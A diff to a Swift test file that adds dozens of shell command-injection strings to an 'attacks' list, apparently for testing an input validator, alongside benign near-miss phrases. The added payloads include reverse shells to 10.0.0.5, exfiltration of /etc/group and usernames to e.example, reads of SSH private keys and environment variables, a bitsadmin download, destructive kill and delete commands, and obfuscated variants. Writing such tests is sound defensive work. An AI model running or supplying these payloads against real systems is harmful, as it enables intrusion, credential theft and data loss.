@@ -61,6 +61,23 @@ import Testing
         ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
         ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
         "%250aid", "x%253Bid", "%26%26whoami",
+        // third batch: mid-value, quoting contexts, interpreters, exfiltration
+        "foo.txt; cat /etc/group #", "test.jpg`sleep 5`", "127.0.0.1\n\nid", "127.0.0.1%0d%0awhoami",
+        "a;$(printf${IFS}'\\x69\\x64')", ";w\\h\\o\\a\\m\\i", ";/b'i'n/c'a't /etc/group", ";\"/bin/cat\" /etc/group",
+        ";'id'", "x;(id)", "x;{ id; }", "x&&(sleep 5)", "x;i\\d", "x;`echo id`", "x|$(id)",
+        "x;tr 'a-z' 'A-Z' < /etc/group", "x;awk 'BEGIN{system(\"id\")}'", "x;sed -n 1p /etc/group",
+        "x;php -r 'system(\"id\");'", "x;ruby -e 'puts `id`'", "x;node -e 'require(\"child_process\").execSync(\"id\")'",
+        "x;socat tcp:10.0.0.5:4444 exec:sh", "x;telnet 10.0.0.5 4444 | /bin/sh | telnet 10.0.0.5 4445",
+        "x;dig +short $(whoami).e.example", "x;host $(id -u).e.example", "x;curl e.example/$(whoami)",
+        "x;wget --post-file=/etc/group e.example", "x;ls -la /root/.ssh/", "x;cat ~/.ssh/id_rsa",
+        "x;cat /proc/self/environ", "x;kill -9 1", "x;ps aux", "x;uname", "x;hostname", "x;env", "x;netstat -an",
+        "x;ifconfig", "x;id -un", ";sleep 5&", "';id;'", "\";id;\"", "')|id|('", "\"|whoami|\"", "'&&sleep 4&&'",
+        "x|powershell -c \"Start-Sleep 5\"", "x & powershell -command \"& {whoami}\"", "x&&ping -n 10 127.0.0.1>nul",
+        "x&echo %COMPUTERNAME%", "x & type %WINDIR%\\win.ini", "x & cmd /c \"ping -n 6 127.0.0.1\"", "x & wh^o^am^i",
+        "x & \"whoami\"", "x|w\"h\"oami", "x & nslookup e.example", "x & bitsadmin /transfer j http://e.example/a c:\\a.exe",
+        "x & schtasks /query", "x & sc query", "x & net view", "x & taskkill /f /im x.exe", "x & del /f /q c:\\x",
+        "x & more c:\\boot.ini", "x & ver", "x;cat${IFS:0:1}/etc/group", "x;$0 -c id", "x;sh -c 'id'",
+        "x;bash -c \"$(echo aWQ=|base64 -d)\"", "() { :; }; /bin/bash -c id", "x;python -m http.server 8000",
     ]
 
     @Test(arguments: attacks)
@@ -76,6 +93,8 @@ import Testing
         "ls is a command; use it wisely", "Ben & Jerry's", "email me at a@b.example", "set the table",
         "type your name", "find the best route", "echo of the past", "Press Ctrl+C to copy",
         "x=1&y=2", "a | b | c", "R&B", "Mum & Dad; Grandma & Grandpa", "the id of the user",
+        "deals; more > $5 off", "ratio; time > 5 min", "1 & 2 > 3", "pros; cons < /2", "kill the lights; sleep -ish",
+        "see ./README.md for more", "A=1; B=2", "ps: see you", "size > 10 & < 20", "one; two > three",
     ]
 
     @Test(arguments: nearMisses)
